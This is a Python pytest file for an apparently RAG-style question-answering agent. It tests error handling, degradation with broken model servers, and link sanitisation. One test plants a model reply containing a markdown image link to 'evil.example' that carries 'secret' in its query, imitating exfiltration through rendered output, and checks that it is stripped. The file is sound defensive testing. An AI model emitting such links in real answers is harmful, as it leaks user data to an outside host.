"""Bad input and broken providers: a clear error or a visible degradation, in bounded time."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from anabranch.agent.graph import ingest, retrieval
from anabranch.agent.nodes.settings import Context
from anabranch.errors import (
    CorpusEmptyError,
    CorpusNotFoundError,
    MissingKeyError,
    OperationError,
    QuestionError,
    SettingsError,
)
from tests.graph.inside import build, graph
from tests.graph.replies import model
from tests.servers import scripts
from tests.servers.clock import hurried
from tests.servers.loopback import Reply
from tests.servers.openai_stub import OpenAIStub

QUESTION = "Who built the Halden weir?"


async def _ask(river: str, question: Any = QUESTION, **settings: Any) -> dict[str, Any]:
    return await graph.ainvoke({"question": question}, context=Context(corpus=river, **settings))


@pytest.mark.parametrize("question", ["", "   \n", "?!…", "x" * 100_000, 42])
async def test_a_question_that_is_none(question: Any, river: str) -> None:
    with pytest.raises(QuestionError) as raised:
        await _ask(river, question)
    assert raised.value.hint


async def test_a_corpus_that_is_not_there(tmp_path: Path) -> None:
    with pytest.raises(CorpusNotFoundError, match="ingest"):
        await _ask(str(tmp_path / "nowhere"))
    assert not (tmp_path / "nowhere").exists()


async def test_a_corpus_with_nothing_in_it(tmp_path: Path) -> None:
    from anabranch.ingestion.pipeline import ingest

    (tmp_path / "empty").mkdir()
    ingest([tmp_path / "empty"], tmp_path / "corpus")
    with pytest.raises((CorpusEmptyError, CorpusNotFoundError)):
        await _ask(str(tmp_path / "corpus"))


def test_an_unknown_setting_and_one_out_of_bounds() -> None:
    with pytest.raises(SettingsError, match="no setting 'top_kk'") as unknown:
        Context(top_kk=3)  # type: ignore[call-arg]
    assert unknown.value.hint == "Did you mean 'top_k'?"
    with pytest.raises(SettingsError, match=r"'top_k' cannot be 10000: .*less than or equal to 1000"):
        Context(top_k=10_000)


@pytest.mark.parametrize("run", [graph, retrieval.graph, ingest.graph])
async def test_an_unknown_setting_in_the_context_of_any_graph(run: Any) -> None:
    with pytest.raises(SettingsError) as caught:
        await run.ainvoke({}, context={"corpsu": "x"})
    assert caught.value.hint == "Did you mean 'corpus'?"


async def test_an_unknown_retriever_names_the_known_ones(river: str) -> None:
    with pytest.raises(SettingsError, match="bm25, dense"):
        await _ask(river, retrievers=("elastic",))


async def test_a_malformed_filter(river: str) -> None:
    with pytest.raises(SettingsError):
        await graph.ainvoke({"question": QUESTION, "filters": {"year": {"near": 3}}}, context=Context(corpus=river))


async def test_a_locked_setting_cannot_be_chosen(river: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANABRANCH_LOCK", '["base_url"]')
    with pytest.raises(SettingsError, match="base_url"):
        await _ask(river, model="openai:x", base_url="http://127.0.0.1:1/v1")


async def test_a_hosted_model_without_its_key(river: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    with pytest.raises(MissingKeyError, match="OPENAI_API_KEY"):
        await _ask(river, model="openai:gpt-5-mini")


async def test_rerankers_that_cannot_work_say_so(river: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("CO_API_KEY", raising=False)
    monkeypatch.delenv("COHERE_API_KEY", raising=False)
    with pytest.raises(MissingKeyError, match="CO_API_KEY"):
        await _ask(river, rerank="cohere")
    with pytest.raises(SettingsError, match="chat model"):
        await _ask(river, rerank="llm")
    with pytest.raises(SettingsError, match="rerank_model"):
        await _ask(river, rerank="cross_encoder")


@pytest.mark.loopback
@pytest.mark.parametrize(
    ("reply", "error"), [(scripts.UNAUTHORISED, MissingKeyError), (scripts.MISSING_MODEL, SettingsError)]
)
async def test_a_wrong_key_or_model_name_is_said_at_once(reply: Reply, error: type[Exception], river: str) -> None:
    with OpenAIStub(reply) as stub:
        with pytest.raises(error):
            await _ask(river, model="openai:stub", base_url=stub.base_url)
        assert len(stub.calls) == 1


@pytest.mark.loopback
@pytest.mark.parametrize(
    "reply",
    [scripts.BROKEN, scripts.NONSENSE, scripts.no_choices, scripts.rate_limited(0.01), scripts.SILENT, scripts.DRIP],
    ids=["500", "nonsense", "no choices", "429", "silent", "drip"],
)
async def test_a_broken_model_server_degrades_and_says_so(reply: Any, river: str) -> None:
    with OpenAIStub(hurried(scripts.as_script(reply))) as stub:
        state = await _ask(
            river, model="openai:stub", base_url=stub.base_url, model_retries=1, grade="llm", rerank="llm"
        )
        assert len(stub.calls) <= 2 * 4
    assert "Ida Marrow" in state["answer"]
    # A server that was too slow for the first call is not asked again.
    asked = {"rewrite"} if reply in (scripts.SILENT, scripts.DRIP) else {"rewrite", "create"}
    assert {item["step"] for item in state["degraded"]} >= asked
    assert state["route"]["name"] == "compose"


async def test_a_model_server_that_is_down(river: str) -> None:
    state = await _ask(river, model="openai:stub", base_url="http://127.0.0.1:9/v1", model_timeout=3.0, model_retries=0)
    assert "Ida Marrow" in state["answer"]
    assert {item["step"] for item in state["degraded"]} >= {"rewrite", "create"}


@pytest.mark.loopback
async def test_one_failing_step_leaves_the_others(river: str) -> None:
    with OpenAIStub(model(rewrite=scripts.BROKEN, rerank=scripts.BROKEN)) as stub:
        state = await _ask(river, model="openai:stub", base_url=stub.base_url, model_retries=0, rerank="llm")
    assert {item["step"] for item in state["degraded"]} == {"rewrite", "rerank"}
    assert state["route"]["name"] == "create"
    assert state["citations"]


@pytest.mark.loopback
@pytest.mark.parametrize("reply", ["[2] > [1]", "no idea", "Doc: 0, Relevance: 9", "Doc: -7, Relevance: 10"])
async def test_an_unreadable_reranking_loses_no_candidate(reply: str, river: str) -> None:
    with OpenAIStub(model(rerank=Reply(reply))) as stub:
        base = {"model": "openai:stub", "base_url": stub.base_url, "strategy": "none", "top_k": 8}
        state = await _ask(river, rerank="llm", rerank_depth=8, **base)
        plain = await _ask(river, **base)
    assert {c["id"] for c in state["candidates"]} == {c["id"] for c in plain["candidates"]}


@pytest.mark.loopback
async def test_links_from_a_model_do_not_reach_the_answer(river: str) -> None:
    evil = 'Ida Marrow built the weir [1]. ![x](http://evil.example/?q=secret) <a href="http://evil.example">here</a>'
    with OpenAIStub(model(create=Reply(evil))) as stub:
        pieces: list[str] = []
        answer = ""
        context = Context(corpus=river, model="openai:stub", base_url=stub.base_url, strategy="none")
        async for mode, item in graph.astream(
            {"question": QUESTION}, context=context, stream_mode=["messages", "values"]
        ):
            if mode == "messages":
                pieces.append(item[0].text)
            else:
                answer = item.get("answer", "")
    assert "evil.example" not in answer
    assert "evil.example" not in "".join(pieces)


async def test_every_retriever_failing_is_an_error_and_one_is_a_degradation(river: str) -> None:
    from langchain_core.documents import Document
    from langchain_core.retrievers import BaseRetriever

    class Broken(BaseRetriever):
        def _get_relevant_documents(self, query: str, *, run_manager: Any) -> list[Document]:
            raise ConnectionError("the index is away")

    compiled = build(retrievers={"away": Broken()}).compile()
    state = await compiled.ainvoke({"question": QUESTION}, context=Context(corpus=river, retrievers=("bm25", "away")))
    assert "Ida Marrow" in state["answer"]
    assert state["degraded"] == [{"step": "retrieve:away", "reason": "ConnectionError: the index is away"}]
    with pytest.raises(OperationError, match="index is away"):
        await compiled.ainvoke({"question": QUESTION}, context=Context(corpus=river, retrievers=("away",)))
